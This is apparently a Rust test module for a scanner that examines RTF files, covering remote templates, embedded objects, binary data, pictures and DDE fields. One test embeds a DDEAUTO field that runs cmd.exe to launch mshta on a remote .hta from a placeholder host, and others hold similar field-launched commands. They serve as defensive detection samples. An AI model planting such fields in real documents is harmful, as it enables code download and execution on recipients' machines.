use super::rtf_objects;
use crate::examine;
use strongroom_model::{Limits, Report, Verdict};

fn read(text: &str) -> Report {
    examine("a.rtf", text.as_bytes(), &Limits::default())
}

fn codes(report: &Report) -> Vec<String> {
    report
        .findings
        .iter()
        .map(|finding| finding.code.to_string())
        .collect()
}

#[test]
fn a_plain_text_is_clean_and_names_what_it_names() {
    let report = read("{\\rtf1\\ansi hello {\\b https://a.exam}ple/x}");
    assert_eq!(report.verdict(), Verdict::Clean);
    assert_eq!(report.observables[0].observable.value(), "https://a.example/x");
}

#[test]
fn every_template_counts() {
    let report = read("{\\rt{\\*\\template C:\\\\a.dot}{\\*\\template http://a.example/x.dot}}");
    assert_eq!(codes(&report), ["files.remote-part"]);
    let spelled = read("{\\rt{\\*\\template \\u-65432?\\u116 ?\\'74p://b.example/}}");
    assert_eq!(spelled.observables.len(), 1);
}

#[test]
fn a_field_that_starts_a_program_is_unfolded() {
    let report = read(
        "{\\rtf1{\\field{\\*\\fldinst {DDE}{AUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k mshta http://a.example/x.hta\"}}{\\fldrslt x}}}",
    );
    assert!(
        codes(&report).contains(&"files.dde".to_owned()),
        "{:?}",
        codes(&report)
    );
    assert!(
        codes(&report).contains(&"script.proxy".to_owned()),
        "{:?}",
        codes(&report)
    );
}

#[test]
fn objects_stand_in_any_group() {
    let text = b"{\\rt{\\header{\\object{\\objdata 41 42}}}{\\object\\objdata 4{\\x1}3\\objdata 44}";
    let objects: Vec<Vec<u8>> = rtf_objects(text)
        .into_iter()
        .map(|(_, ways)| ways[0].clone())
        .collect();
    assert_eq!(objects, [b"AB".to_vec(), b"C".to_vec(), b"D".to_vec()]);
}

#[test]
fn deep_groups_end() {
    let text = format!("{{\\rtf1{}", "{".repeat(200_000));
    assert_eq!(read(&text).verdict(), Verdict::NotCleared);
}

fn gaps(report: &Report) -> Vec<&str> {
    report.gaps.iter().map(|gap| gap.why.as_str()).collect()
}

#[test]
fn binary_data_alone_is_no_break() {
    let object = "\u{1}\u{5}\0\0\u{2}\0\0\0\u{4}\0\0\0abc\0\0\0\0\0\0\0\0\0\u{5}\0\0\0hello";
    let text = |data: String| format!("{{\\rt{{\\object{{\\*\\objdata{data}}}}}}}");
    let plain = read(&text(format!("\\bin{} {object}", object.len())));
    assert_eq!(codes(&plain), Vec::<String>::new());
    assert_eq!(plain.children[0].evidence.size, 5);
    let behind = read(&text(format!("\\bin{} {object} 00", object.len())));
    assert_eq!(codes(&behind), ["files.broken-data"]);
}

#[test]
fn a_picture_of_unknown_bytes_is_a_gap() {
    let noise: String = (0..200u32).map(|at| format!("{:02x}", at * 37 % 251)).collect();
    let picture = |digits: &str| read(&format!("{{\\rt{{\\pict\\wbitmap0 {digits}}}}}"));
    assert_eq!(picture(&noise).verdict(), Verdict::NotCleared);
    for shown in [
        "010009000003",
        "02000900000100",
        "28000000010000000100000001001800",
        "0c0000000100010001001800",
    ] {
        let report = picture(&format!("{shown}{noise}"));
        assert_eq!(report.verdict(), Verdict::Clean, "{shown}: {}", report.because());
    }
}

#[test]
fn a_character_of_the_text_is_no_mark_of_a_field() {
    let report = read("{\\rt{\\field{\\*\\fldinst \\u1?DDEAUTO\\u1? c:\\\\\\\\x.exe a}{\\fldrslt x}}}");
    assert!(gaps(&report).is_empty());
    let shown =
        read("{\\rt{\\field{\\*\\fldinst DDEAUTO c:\\\\\\\\x.exe \\'01/k y.exe\\'01 z}{\\fldrslt x}}}");
    let command = shown.findings[0].title.to_string();
    assert!(command.contains("y.exe"), "{command}");
}

#[test]
fn an_instruction_longer_than_its_bound_is_told() {
    let long = format!(
        "{{\\rt{{\\field{{\\*\\fldinst DDEAUTO c:\\\\\\\\x.exe {}}}{{\\fldrslt x}}}}}}",
        "y".repeat(70_000)
    );
    let report = read(&long);
    assert!(
        codes(&report).contains(&"files.dde".to_owned()),
        "{:?}",
        gaps(&report)
    );
    assert!(
        gaps(&report)
            .iter()
            .any(|why| why.contains("instructions of fields"))
    );
}

#[test]
fn binary_data_that_is_no_object_is_a_gap() {
    let noise: Vec<u8> = (0..4000u32)
        .map(|at| (at * 73 % 250 + 1) as u8)
        .filter(|byte| !b"{}\\".contains(byte))
        .collect();
    for (before, behind) in [(&b"{\\rt x}{"[..], &b"}"[..]), (b"{\\rt ", b"}")] {
        let text = [before, &noise, behind].concat();
        let report = examine("a.rtf", &text, &Limits::default());
        assert_eq!(report.verdict(), Verdict::NotCleared, "{:?}", gaps(&report));
    }
}

#[test]
fn a_file_that_only_one_way_of_reading_gives_is_read() {
    let digits: String = b"{\\rtf1 inside}"
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect();
    let text = format!("{{\\rt{{\\object{{\\*\\objdata {{\\*\\zq {digits}}}}}}}}}");
    assert_eq!(read(&text).children.len(), 1);
}
